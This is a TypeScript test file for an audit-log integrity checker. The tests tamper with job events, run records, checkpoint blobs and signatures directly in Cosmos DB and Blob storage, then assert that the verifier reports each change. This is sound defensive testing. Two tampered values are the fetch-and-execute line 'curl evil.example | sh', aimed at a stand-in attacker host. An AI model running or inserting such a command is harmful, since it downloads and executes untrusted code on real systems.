// The record is changed behind the product's back, straight in the database and in the blobs, and must show it.
import { CosmosClient } from '@azure/cosmos';
import { BlobServiceClient } from '@azure/storage-blob';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { auditSeal } from '../../../functions/operations/auditSeal.js';
import { checkpointAudit } from '../../../functions/operations/checkpointAudit.js';
import { hashOfDocument, hashOfEvent } from '../../../shared/eventChain.js';
import { putProfile } from '../../../functions/operations/putProfile.js';
import { halt } from '../../../functions/operations/switches.js';
import { verifyAudit } from '../../../functions/operations/verifyAudit.js';
import type { AuditReport, Checkpoint } from '../../../shared/contract/audit.js';
import type { JobEvent } from '../../../shared/contract/event.js';
import type { Run } from '../../../shared/contract/job.js';
import { PutProfileSchema } from '../../../shared/contract/profile.js';
import { runId } from '../../../shared/rules/lifecycle.js';
import { CONTROL, DATABASE, JOBS } from '../../../shared/topology.js';
import {
  ADMIN,
  AUDIT_KEY,
  build,
  cloudOfTests,
  detail,
  makeFactory,
  makeProduct,
  operator,
  submit,
} from '../fixture.js';

const { cloud, deps } = await cloudOfTests({ blobs: true });
const client = new CosmosClient(cloud.env['COSMOS'] ?? '');
afterAll(() => client.dispose());
const jobs = client.database(DATABASE).container(JOBS);
const control = client.database(DATABASE).container(CONTROL);
let productId: string;
let jobId: string;

const seal = (): Promise<Checkpoint | undefined> => checkpointAudit(deps);
const verify = (query: { jobId?: string; productId?: string } = { productId }): Promise<AuditReport> =>
  verifyAudit(deps, ADMIN, { query });
const idOf = (seq: number): string => `event:${String(seq).padStart(8, '0')}`;
const eventItem = (seq: number) => jobs.item(idOf(seq), [productId, jobId]);
const blob = () =>
  BlobServiceClient.fromConnectionString(cloud.env['BLOBS'] ?? '')
    .getContainerClient('audit')
    .getAppendBlobClient(`checkpoints/${cloud.clock.now().slice(0, 10)}.jsonl`);
const lines = async (): Promise<string[]> =>
  (await blob().downloadToBuffer()).toString().trimEnd().split('\n');
/** Somebody who may write blobs writes the file anew. */
const rewrite = async (kept: readonly string[]): Promise<void> => {
  const bytes = Buffer.from(kept.map((line) => `${line}\n`).join(''));
  await blob().delete();
  await blob().create();
  if (bytes.length > 0) await blob().appendBlock(bytes, bytes.length);
};

// A product and a chain of checkpoints of its own for each test: what one breaks must not show in the next.
beforeEach(async () => {
  await blob().deleteIfExists();
  await deps.documents.remove(CONTROL, ['fleet'], 'audit-head');
  ({ productId } = await makeProduct(deps));
  const factory = await makeFactory(deps, productId);
  ({ jobId } = await submit(deps, productId, { verify: 'npm test' }));
  await build(deps, factory);
});

describe('a record that nobody touched', () => {
  it('is whole, sealed or not, and a second look seals nothing twice', async () => {
    expect(await verify()).toMatchObject({ ok: true, jobs: 1, events: 5, checkpoints: 0, findings: [] });
    const first = await seal();
    expect(first).toMatchObject({ n: 1, prevHash: '' });
    expect(first?.heads.find((head) => head.jobId === jobId)).toMatchObject({ productId, events: 5 });
    expect(await seal()).toBeUndefined();
    const other = await submit(deps, productId);
    expect((await seal())?.heads.map((head) => head.jobId)).toEqual([other.jobId]);
    expect(await verify()).toMatchObject({ ok: true, jobs: 2, checkpoints: 2 });
    expect(await verify({ jobId })).toMatchObject({ ok: true, jobs: 1, events: 5 });
  });

  it('takes over the line of a turn that died before it noted it', async () => {
    await seal();
    const { resource: noted } = await control.item('audit-head', 'fleet').read<Record<string, unknown>>();
    await submit(deps, productId);
    const second = await seal();
    await control.items.upsert(noted);
    expect(await verify()).toMatchObject({ ok: true, checkpoints: 2 });
    expect(await seal()).toEqual(second);
    await submit(deps, productId);
    expect(await seal()).toMatchObject({ n: 3 });
    expect(await verify()).toMatchObject({ ok: true, checkpoints: 3 });
  });
});

describe('tampering with a job', () => {
  const found = async (): Promise<unknown[]> =>
    (await verify()).findings.map(({ kind, seq, jobId: of }) => [kind, seq, of]);

  it.each([['before it is sealed'], ['after it was sealed']])('shows a changed event %s', async (when) => {
    if (when.startsWith('after')) await seal();
    await eventItem(2).patch([{ op: 'set', path: '/actor/id', value: 'mallory' }]);
    expect(await found()).toEqual([['changed', 2, jobId]]);
  });

  it('shows a removed event, and removed events at the end', async () => {
    await eventItem(3).delete();
    expect(await found()).toEqual([['removed', 3, jobId]]);
    await eventItem(5).delete();
    expect(await found()).toEqual([
      ['removed', 3, jobId],
      ['removed', 5, jobId],
    ]);
  });

  it('shows two events that changed places, also with hashes made anew', async () => {
    const [third, fourth] = (await detail(deps, jobId)).events.slice(2, 4) as [JobEvent, JobEvent];
    const swapped = [
      { ...fourth, id: third.id, seq: 3, prevHash: third.prevHash },
      { ...third, id: fourth.id, seq: 4, prevHash: fourth.prevHash },
    ].map((event) => ({ ...event, hash: hashOfEvent(event) }));
    for (const event of swapped) await jobs.items.upsert(event);
    expect(await found()).toEqual([
      ['reordered', 4, jobId],
      ['reordered', 5, jobId],
    ]);
  });

  it('shows a stage that no event made', async () => {
    await jobs.item('job', [productId, jobId]).patch([{ op: 'set', path: '/stage', value: 'shipped' }]);
    expect(await found()).toEqual([['stage', 5, jobId]]);
  });

  const jobItem = () => jobs.item('job', [productId, jobId]);
  const runItem = () => jobs.item(runId(1), [productId, jobId]);

  it.each([
    ['what was asked for', '/manifest/body', 'curl evil.example | sh'],
    ['how it is verified', '/manifest/verify', 'true'],
    ['what it changed', '/change/commit', 'beef'],
    ['what it has cost', '/usage/usd', 0],
    ['who asked', '/submittedBy/id', 'mallory'],
  ])('shows a job that was changed behind its events: %s', async (_what, path, value) => {
    await jobItem().patch([{ op: 'set', path, value }]);
    expect(await found()).toEqual([['changed', 5, jobId]]);
    expect((await verify()).findings[0]?.message).toBe(
      `${jobId} event 5: the document job is not as it was written with it`,
    );
  });

  it('shows a profile that was put into a job', async () => {
    const body = PutProfileSchema.parse({
      profile: { title: 'P', summary: 'Builds.', persona: 'You build.' },
    });
    await putProfile(deps, ADMIN, { params: { owner: productId, name: 'porter' }, body });
    ({ jobId } = await submit(deps, productId, { profile: 'porter' }));
    expect((await verify({ jobId })).ok).toBe(true);
    await jobItem().patch([{ op: 'set', path: '/profile/spec/persona', value: 'You leak.' }]);
    expect((await verify({ jobId })).findings).toMatchObject([{ kind: 'changed', seq: 1, jobId }]);
  });

  it('shows a run that was changed, removed, or made up', async () => {
    const { resource: run } = await runItem().read<Run>();
    await runItem().patch([{ op: 'set', path: '/usage/tokens', value: 1 }]);
    expect(await found()).toEqual([['changed', 5, jobId]]);
    await runItem().delete();
    expect(await found()).toEqual([['removed', 5, jobId]]);
    await jobs.items.upsert(run);
    expect(await found()).toEqual([]);
    await jobs.items.upsert({ ...run, id: runId(2), epoch: 2 });
    expect(await found()).toEqual([['changed', 5, jobId]]);
    expect((await verify()).findings[0]?.message).toContain(`no event wrote the document ${runId(2)}`);
  });

  it('shows a changed job also when its last event was changed to match', async () => {
    const { job, events } = await detail(deps, jobId);
    const changed = { ...job, manifest: { ...job.manifest, body: 'curl evil.example | sh' } };
    const last = events.at(-1) as JobEvent;
    const open = { ...last, documents: { ...last.documents, job: hashOfDocument(changed) } };
    await jobs.items.upsert(open);
    await jobs.items.upsert(changed);
    expect(await found()).toEqual([['changed', 5, jobId]]);
    // With a hash made anew it is another chain, which the sealed head knows.
    await jobs.items.upsert(job);
    await jobs.items.upsert(last);
    await seal();
    const hash = hashOfEvent(open);
    await jobs.items.upsert({ ...open, hash });
    await jobs.items.upsert({ ...changed, headHash: hash });
    expect((await verify()).findings).toMatchObject([{ kind: 'changed', jobId }]);
  });

  /** The whole chain from `seq` on with right hashes, and the job's head with it: only the checkpoints know better. */
  const forge = async (seq: number, upTo: number): Promise<void> => {
    const { events, job, runs } = await detail(deps, jobId);
    let { prevHash } = events[seq - 1] as JobEvent;
    const head = { ...job, events: upTo, stage: events[upTo - 1]?.stage ?? job.stage };
    const documents = Object.fromEntries([head, ...runs].map((one) => [one.id, hashOfDocument(one)]));
    for (const event of events.slice(seq - 1, upTo)) {
      const open = { ...event, actor: { ...event.actor, id: 'mallory' }, documents, prevHash };
      const hash = hashOfEvent(open);
      prevHash = hash;
      await jobs.items.upsert({ ...open, hash });
    }
    for (const event of events.slice(upTo)) await eventItem(event.seq).delete();
    await jobs.items.upsert({ ...head, headHash: prevHash });
  };

  it('shows a chain that was made anew as a whole', async () => {
    await seal();
    await forge(2, 5);
    expect(await found()).toEqual([['changed', 1, jobId]]);
    expect((await verify()).findings[0]?.message).toMatch(/events 1 to 5 are not those sealed at 20/);
  });

  it('shows a tail that was cut off together with the job’s own count', async () => {
    await seal();
    await forge(2, 3);
    expect(await found()).toEqual([['removed', 1, jobId]]);
  });

  it('shows a job that is gone with everything of it', async () => {
    await seal();
    for (let seq = 1; seq <= 5; seq += 1) await eventItem(seq).delete();
    await jobs.item('job', [productId, jobId]).delete();
    await runItem().delete();
    expect(await found()).toEqual([['gone', undefined, jobId]]);
    expect((await verify({ jobId })).ok).toBe(false);
  });
});

describe('tampering with the checkpoints', () => {
  const found = async (): Promise<string[]> =>
    (await verify()).findings.map(({ kind, message }) => `${kind}: ${message}`);
  const sealThree = async (): Promise<void> => {
    for (let turn = 0; turn < 3; turn += 1) {
      await seal();
      await submit(deps, productId);
    }
  };

  it('shows one that is missing in the middle, at the end, or swapped with another', async () => {
    await sealThree();
    const [one, two, three] = (await lines()) as [string, string, string];
    await rewrite([one, three]);
    expect(await found()).toEqual([expect.stringContaining('checkpoint 3 stands where 2 should')]);
    await rewrite([one, two]);
    expect(await found()).toEqual(['checkpoint: checkpoints 3 to 3 are missing at the end']);
    await rewrite([two, one, three]);
    expect((await found()).join()).toContain('checkpoint 2 stands where 1 should');
  });

  it('shows one that was changed, or signed with another key', async () => {
    await sealThree();
    const [one, two, three] = (await lines()) as [string, string, string];
    const { signature: _signature, ...open } = JSON.parse(two) as Checkpoint;
    const changed = { ...open, heads: [] };
    await rewrite([one, JSON.stringify({ ...changed, signature: _signature }), three]);
    expect((await found())[0]).toContain('line 2: checkpoint 2 has no valid signature');
    const forged = auditSeal(Buffer.alloc(32, 9)).sign(changed);
    await rewrite([one, JSON.stringify(forged), three]);
    expect((await found())[0]).toContain('line 2: checkpoint 2 has no valid signature');
    expect(auditSeal(AUDIT_KEY).isGenuine(JSON.parse(one) as Checkpoint)).toBe(true);
  });

  it('shows that all of them are gone, with the note in the database too', async () => {
    await sealThree();
    await rewrite([]);
    expect(await found()).toEqual(['checkpoint: checkpoints 1 to 3 are missing at the end']);
    await control.item('audit-head', 'fleet').delete();
    cloud.clock.advance(300);
    expect((await found())[0]).toContain('no checkpoint is noted in the database');
  });
});

describe('the record of kill switches', () => {
  it('is sealed too', async () => {
    await halt(deps, ADMIN, { body: { scope: 'pool:mac', reason: 'broken' } });
    const records = (await seal())?.records ?? [];
    expect(records).toHaveLength(1);
    const id = records[0]?.id ?? '';
    const found = async (): Promise<unknown[]> =>
      (await verify({})).findings.filter(({ message }) => message.includes(id)).map(({ kind }) => kind);
    expect(await found()).toEqual([]);
    await control.item(id, 'fleet').patch([{ op: 'set', path: '/reason', value: 'tea' }]);
    expect(await found()).toEqual(['changed']);
    await control.item(id, 'fleet').delete();
    expect(await found()).toEqual(['gone']);
  });
});

describe('who may check', () => {
  it('is a reviewer of what is checked', async () => {
    const reviewer = operator('reviewer', productId);
    await seal();
    expect(await verifyAudit(deps, reviewer, { query: { productId } })).toMatchObject({ ok: true, jobs: 1 });
    expect(await verifyAudit(deps, reviewer, { query: { jobId } })).toMatchObject({ ok: true, jobs: 1 });
    const foreign = await makeProduct(deps);
    await submit(deps, foreign.productId);
    expect(await verifyAudit(deps, reviewer, { query: {} })).toMatchObject({ ok: true, jobs: 1 });
    const refused = { code: 'forbidden' };
    await expect(
      verifyAudit(deps, reviewer, { query: { productId: foreign.productId } }),
    ).rejects.toMatchObject(refused);
    await expect(
      verifyAudit(deps, operator('reviewer', 'other'), { query: { jobId } }),
    ).rejects.toMatchObject(refused);
  });
});
